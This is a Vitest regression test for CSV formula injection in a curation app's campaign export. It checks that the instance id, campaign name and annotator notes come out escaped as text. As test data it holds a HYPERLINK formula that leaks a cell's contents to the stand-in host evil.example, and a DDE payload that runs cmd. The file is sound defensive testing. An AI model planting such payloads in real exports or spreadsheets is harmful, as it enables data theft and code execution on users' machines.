import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createTestDatabase, type TestDatabase } from "../helpers/database";
import { createEnvironment, createTask, createUser } from "../fixtures/factories/curation";
import { callRoute } from "../helpers/route-call";
import { createApiToken } from "@/lib/auth/api-tokens";
import { createCampaign } from "@/lib/campaigns/create-campaign";
import * as nextRoute from "@/app/api/v1/campaigns/[id]/next/route";
import * as labelsRoute from "@/app/api/v1/campaigns/[id]/labels/route";
import * as exportRoute from "@/app/api/v1/campaigns/[id]/export/route";

// Issue 27, item 5: CSV formula injection. Text a data author or an annotator wrote (an
// imported instance id, a campaign's name, an annotator's note) went into CSV cells as is; a
// cell starting with = + - @ runs as a formula when a curator opens the export in a spreadsheet.

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")';
const DDE = "@SUM(1+1)*cmd|' /C calc'!A0";

/** RFC 4180 cells, as a spreadsheet splits them (quotes undone), one array per line. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = "";
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') cell += text[i++];
    else if (c === '"') quoted = !quoted;
    else if (quoted || (c !== "," && c !== "\n" && !(c === "\r" && text[i + 1] === "\n"))) cell += c;
    else if (c === ",") endCell();
    else if (c === "\n") {
      endCell();
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

let db: TestDatabase;
beforeAll(async () => {
  db = await createTestDatabase();
});
afterAll(async () => db?.drop());

describe("formula injection through a campaign's CSV export", () => {
  it("an imported instance id, a campaign name and an annotator's note come out as text, never as a formula", async () => {
    const admin = await createUser(db.prisma, "ADMIN");
    const adminToken = (await createApiToken(db.prisma, admin.id, { name: "admin" })).token;
    const annotator = await createUser(db.prisma, "CURATOR");
    const annotatorToken = (await createApiToken(db.prisma, annotator.id, { name: "annotator" })).token;
    const env = await createEnvironment(db.prisma, "acme/formula");
    await createTask(db.prisma, env.id, { instanceId: HYPERLINK, automatedVerdict: "VALID" });
    const actor = { id: admin.id, email: admin.email, name: admin.name, role: "ADMIN" as const };
    const campaign = await createCampaign(db.prisma, actor, {
      name: DDE,
      viewQuery: "repository=acme/formula",
      annotatorIds: [annotator.id],
      overlap: 1,
    });

    const served = await (
      await callRoute(nextRoute.POST, annotatorToken, `/api/v1/campaigns/${campaign.id}/next`, {
        method: "POST",
        params: { id: campaign.id },
      })
    ).json();
    const answers = {
      underspecified: 0,
      underspecified_reason: HYPERLINK,
      tests_valid: 0,
      tests_reason: `-${HYPERLINK}`,
      difficulty: 0,
      major_issue: false,
      confidence: 4,
    };
    const labelled = await callRoute(labelsRoute.POST, annotatorToken, `/api/v1/campaigns/${campaign.id}/labels`, {
      method: "POST",
      params: { id: campaign.id },
      body: { taskId: served.taskId, answers },
    });
    expect(labelled.status).toBe(201);

    const response = await callRoute(
      exportRoute.GET,
      adminToken,
      `/api/v1/campaigns/${campaign.id}/export?format=csv`,
      { params: { id: campaign.id } },
    );
    expect(response.headers.get("content-type")).toMatch(/text\/csv/);
    const [header, ...rows] = parseCsv(await response.text());
    expect(rows).toHaveLength(1);
    const row = Object.fromEntries(header.map((name, i) => [name, rows[0][i]]));
    expect(row.instance_id).toBe(`'${HYPERLINK}`);
    expect(row.campaign).toBe(`'${DDE}`);
    // the annotator's notes are kept, word for word, inside the labels column
    expect(JSON.parse(row.labels)[0].answers).toMatchObject({
      underspecified_reason: HYPERLINK,
      tests_reason: `-${HYPERLINK}`,
    });
    for (const [name, cell] of Object.entries(row)) expect(cell, `the ${name} cell`).not.toMatch(/^[=+\-@\t\r]/);
  });
});
